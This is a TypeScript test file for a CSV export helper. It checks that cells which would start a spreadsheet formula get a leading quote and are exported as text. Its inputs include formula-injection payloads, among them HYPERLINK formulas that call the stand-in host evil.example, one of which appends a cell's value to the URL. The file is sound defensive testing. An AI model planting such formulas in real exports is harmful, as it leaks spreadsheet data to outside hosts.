import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvCell } from '../../../shared/csv-cell.ts';
import { demoConfig } from '../../fixtures/run-records.ts';
import { startTestCore } from '../../fixtures/test-core.ts';

test('CSV cells never start a formula: = + - @ tab CR get a leading quote; numbers and plain text stay', () => {
  assert.equal(csvCell('=1+1'), "'=1+1");
  assert.equal(csvCell('+cmd'), "'+cmd");
  assert.equal(csvCell('-2+3'), "'-2+3");
  assert.equal(csvCell('@SUM(A1)'), "'@SUM(A1)");
  assert.equal(csvCell('\tx'), "'\tx");
  assert.equal(csvCell('\r=x'), `"'\r=x"`);
  assert.equal(csvCell('=HYPERLINK("http://evil.example","click")'), `"'=HYPERLINK(""http://evil.example"",""click"")"`);
  for (const plain of ['-0.5', '+3', '-1e-4', '0.001', 'resnet18', 'a,b', '']) assert.equal(csvCell(plain).replace(/^"|"$/g, ''), plain);
});

test('runs.export CSV of a run named as a formula exports it as text', { timeout: 30_000 }, async () => {
  const t = await startTestCore('completing');
  try {
    const run = await t.core.runs.create(demoConfig({ name: '=HYPERLINK("http://evil.example/?"&A1,"open")' }));
    const csv = t.core.housekeeping.export(run.id, 'csv').content;
    const nameLine = csv.split('\n').find((l) => l.startsWith('config,name,'));
    assert.equal(nameLine, `config,name,,,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`);
    assert.doesNotMatch(csv, /(^|,)"?[=+@]/m);
  } finally {
    await t.dispose();
  }
});
